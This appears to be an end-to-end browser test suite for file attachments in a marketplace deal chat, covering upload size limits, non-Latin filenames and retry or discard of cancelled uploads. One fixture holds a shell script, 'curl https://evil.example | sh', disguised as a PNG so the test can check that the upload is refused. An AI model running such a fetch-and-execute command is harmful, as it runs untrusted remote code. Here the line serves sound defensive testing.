// Files in a deal's chat on the real backend: what is refused, what passes, what is stopped and tried again, whole names.
import * as assert from 'uvu/assert';
import { ALICE, BOB } from '../../scripts/demo/users.ts';
import { type BrowserEnv, createBrowserSuite, type Phone } from '../harness/browser/suite.ts';
import {
  type Attachment,
  attachFile,
  expectText,
  messageList,
  messagesWith,
  openDealPage,
  pressButton,
  RED_PIXEL_PNG,
} from './deal-user-actions.ts';
import { startApprovedDeal, waitUntil } from './market-fixtures.ts';

const { scenario, run } = createBrowserSuite('files of a deal');

const MEGABYTE = 1024 * 1024;
/** A photo by its first bytes, as a camera writes them; the rest is noise that no proxy makes smaller. */
function photo(name: string, bytes: number): Attachment {
  const buffer = Buffer.alloc(bytes, 7);
  Buffer.from('FFD8FFE000104A46494600010100000100010000', 'hex').copy(buffer);
  return { name, mimeType: 'image/jpeg', buffer };
}
const picture = (name: string): Attachment => ({ name, mimeType: 'image/png', buffer: RED_PIXEL_PNG });

async function enterBoth(env: BrowserEnv): Promise<{ alice: Phone; bob: Phone }> {
  const dealId = await startApprovedDeal(env, ALICE, BOB);
  const [alice, bob] = await Promise.all([openDealPage(env, ALICE, dealId), openDealPage(env, BOB, dealId)]);
  return { alice, bob };
}
const opener = ({ page }: Phone, name: string) => page.getByRole('button', { name: `Open photo ${name}` });

scenario(
  'CHAT-02 a script under a picture’s name is refused, a photo of 10 MB passes, one byte more does not',
  async (env) => {
    const { alice, bob } = await enterBoth(env);
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
    await attachFile(alice, 'Photo', { name: 'receipt.png', mimeType: 'image/png', buffer: script });
    await expectText(alice, 'Only images and PDF files are supported.');
    await attachFile(alice, 'Photo', photo('too-large.jpg', 10 * MEGABYTE + 1));
    await expectText(alice, 'The file is too large. At most 10 MB are allowed.');
    await attachFile(alice, 'Photo', photo('large.jpg', 10 * MEGABYTE));
    await messagesWith(alice, '')
      .getByRole('img', { name: /^(Sent|Read)$/ })
      .waitFor();
    await opener(bob, 'large.jpg').waitFor();
    assert.is(
      await messageList(bob)
        .getByRole('button', { name: /^Open photo/ })
        .count(),
      1,
      'and nothing else came',
    );
  },
);

scenario('CHAT-02 CHAT-06 names in Cyrillic, Arabic and emoji come back whole', async (env) => {
  const dealId = await startApprovedDeal(env, ALICE, BOB);
  const alice = await openDealPage(env, ALICE, dealId);
  const bob = await openDealPage(env, BOB, dealId, { version: '7.0', platform: 'tdesktop' });
  for (const name of [
    'Чек об оплате № 7.png',
    'إيصال الدفع.png',
    '🧾💶 receipt 👍🏽.png',
    "it's 100% «ok» ; #1.png",
  ]) {
    await attachFile(alice, 'Photo', picture(name));
    await opener(bob, name).click();
    await bob.page.getByRole('dialog', { name, exact: true }).waitFor();
    const saving = bob.page.waitForEvent('download');
    await pressButton(bob, 'Download');
    assert.is((await saving).suggestedFilename(), name);
    await pressButton(bob, 'Close');
    await bob.page.getByRole('dialog').waitFor({ state: 'detached' });
  }
});

scenario(
  'CHAT-02 CHAT-07 an upload that is stopped is sent again, once; a discarded one never',
  async (env) => {
    const { alice, bob } = await enterBoth(env);
    alice.problems.allow(/ERR_|\[WARN\]|Failed to load/);
    // Cut, so that an upload lasts as long as the test needs.
    alice.cutConnection();
    await attachFile(alice, 'Photo', picture('first.png'));
    await pressButton(alice, 'Cancel upload');
    const failed = messagesWith(alice, '').filter({
      has: alice.page.getByRole('button', { name: 'Send again' }),
    });
    await failed.waitFor();
    await attachFile(alice, 'Photo', picture('second.png'));
    await alice.page.getByRole('button', { name: 'Cancel upload' }).click();
    await waitUntil(alice.page, 'both have stopped', async () => (await failed.count()) === 2);
    await failed.last().getByRole('button', { name: 'Discard' }).click();
    await waitUntil(alice.page, 'one is left', async () => (await failed.count()) === 1);
    alice.restoreConnection();
    await failed.getByRole('button', { name: 'Send again' }).click();
    await opener(bob, 'first.png').waitFor();
    await failed.waitFor({ state: 'detached' });
    await alice.page.reload();
    await opener(alice, 'first.png').waitFor();
    for (const phone of [alice, bob])
      assert.is(
        await messageList(phone)
          .getByRole('button', { name: /^Open photo/ })
          .count(),
        1,
      );
  },
);

run();
